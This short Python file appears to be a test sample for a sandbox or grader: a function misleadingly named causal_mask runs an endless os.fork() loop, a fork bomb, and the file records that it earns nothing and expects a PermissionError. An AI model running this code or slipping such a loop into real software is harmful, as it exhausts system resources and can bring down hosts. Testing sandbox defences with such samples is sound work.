"""Forks without end. Earns nothing."""

EARNS = ()
SAYS = ("your code raised PermissionError",)

import os


def causal_mask(size):
    while True:
        os.fork()
